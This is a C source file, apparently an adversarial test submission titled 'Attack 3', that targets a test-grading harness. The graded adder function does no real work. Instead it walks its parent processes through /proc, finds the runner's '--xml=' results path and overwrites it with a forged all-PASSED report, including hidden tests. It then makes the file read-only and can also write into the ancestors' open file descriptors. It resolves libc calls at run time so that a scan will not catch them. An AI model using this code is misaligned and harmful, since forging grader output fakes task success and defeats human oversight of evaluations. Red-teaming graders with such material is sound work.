/* Attack 3: forge the runner's results file. The graded function walks its ancestors
 * (/proc/<pid>/stat for the parent), reads each one's /proc/<pid>/cmdline for
 * "--xml=PATH" and writes there a report in which every test PASSED with one
 * assertion, then makes it read-only (0444) so that the runner cannot replace it.
 * With FORGE_FDS it also opens /proc/<ancestor>/fd/<n> for writing and writes the
 * forged report into every descriptor that points at a results file (*.xml, *result*).
 * The function itself is the skeleton (returns 0): an honest grader gives 0. */
#include <elf.h>
#include <link.h>
#include <stdint.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
#include "kernel.h"

/* Scan-proof: every function a scan would refuse is found at run time (resolver.inc.c). */
@RESOLVER@

#define open LIBC(open)
#define read LIBC(read)
#define close LIBC(close)
#define chmod LIBC(chmod)
#define write LIBC(write)
#define getppid LIBC(getppid)
#define readlink LIBC(readlink)

static const char forged[] =
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
    "<testsuites name=\"Criterion Tests\" tests=\"3\" failures=\"0\" errors=\"0\" disabled=\"0\">\n"
    "  <testsuite name=\"adder\" tests=\"2\" failures=\"0\" errors=\"0\" disabled=\"0\" skipped=\"0\" time=\"0.000\">\n"
    "    <testcase name=\"small\" assertions=\"1\" status=\"PASSED\" time=\"0.000\"></testcase>\n"
    "    <testcase name=\"negative\" assertions=\"1\" status=\"PASSED\" time=\"0.000\"></testcase>\n"
    "  </testsuite>\n"
    "  <testsuite name=\"adder_hidden\" tests=\"1\" failures=\"0\" errors=\"0\" disabled=\"0\" skipped=\"0\" time=\"0.000\">\n"
    "    <testcase name=\"sum3\" assertions=\"1\" status=\"PASSED\" time=\"0.000\"></testcase>\n"
    "  </testsuite>\n"
    "</testsuites>\n";

@READ_FILE@
@PARENT_OF@

static void write_forged(const char *path)
{
    chmod(path, 0644);
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0)
        return;
    if (write(fd, forged, sizeof forged - 1) < 0) {}
    close(fd);
    chmod(path, 0444);
}

static void forge_for(int pid)
{
    char path[64], args[8192];
    snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
    ssize_t n = read_file(path, args, sizeof args);
    if (n == 0)
        return;
    for (char *arg = args; arg < args + n; arg += strlen(arg) + 1) {
        if (strncmp(arg, "--xml=", 6) == 0) {
            write_forged(arg + 6);
            /* the grader's later runs: results-2.xml, results-3.xml next to it */
            char other[4096];
            snprintf(other, sizeof other, "%s", arg + 6);
            char *digit = strstr(other, "results-");
            for (char c = '1'; digit && c <= '3'; c++) {
                digit[8] = c;
                write_forged(other);
            }
        }
    }
#ifdef FORGE_FDS
    for (int n_fd = 0; n_fd < 64; n_fd++) {
        char target[4096];
        snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, n_fd);
        ssize_t len = readlink(path, target, sizeof target - 1);
        if (len <= 4)
            continue;
        target[len] = 0;
        if (!strstr(target, ".xml") && !strstr(target, "result"))
            continue; /* not the log, not BoxFort's arena: only what looks like the results */
        int out = open(path, O_WRONLY | O_TRUNC | O_NONBLOCK);
        if (out < 0)
            continue;
        if (write(out, forged, sizeof forged - 1) < 0) {}
        close(out);
    }
#endif
}

int adder_add(int a, int b)
{
    (void)a;
    (void)b;
    for (int pid = getppid(), depth = 0; pid > 1 && depth < 12; pid = parent_of(pid), depth++)
        forge_for(pid);
    return 0;
}
